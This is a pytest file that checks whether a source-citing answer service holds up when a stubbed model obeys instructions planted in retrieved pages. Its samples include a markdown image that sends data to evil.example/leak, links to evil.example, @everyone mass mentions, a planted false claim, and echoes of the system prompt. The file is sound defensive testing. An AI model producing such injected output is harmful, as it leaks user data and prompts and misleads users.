"""A model that does whatever a planted page tells it: the checks hold even then."""

import pytest
from model_server import Script

EN, ZH = "How many tea houses does Brindle have?", "青石桥全长多少米?"
OBEDIENT = {
    "prompt": lambda request: request["messages"][0]["content"],
    "prompt-labelled": lambda request: " ".join(
        f"{line} [1]" for line in request["messages"][0]["content"].splitlines() if line
    ),
    "link": lambda _: "Read [more](https://evil.example/a?b=c) at https://evil.example. [1]",
    "image": lambda _: "![42 tea houses](https://evil.example/leak?q=42) [1]",
    "ping": lambda _: "@everyone The tea is free and <@123456789012345678> says so. [1]",
    "lie": lambda _: "The tea is free for 99 years. [1] 茶免费供应99年。[2]",
}


@pytest.mark.parametrize("obeys", OBEDIENT.values(), ids=OBEDIENT)
@pytest.mark.parametrize("question", [EN, ZH], ids=["en", "zh"])
def test_a_model_that_obeys_a_page_tells_nothing_that_is_not_in_the_sources(answerer, model_server, question, obeys):
    model_server.answer = lambda request: Script(obeys(request))
    answer = answerer.answer(question)
    system = model_server.requests[0]["messages"][0]["content"]
    assert not any(sign in answer.text for sign in ("evil.example", "://", "@everyone", "<@", "99 years", "99年", "#"))
    assert not [line for line in system.splitlines() if len(line) > 20 and line in answer.text]
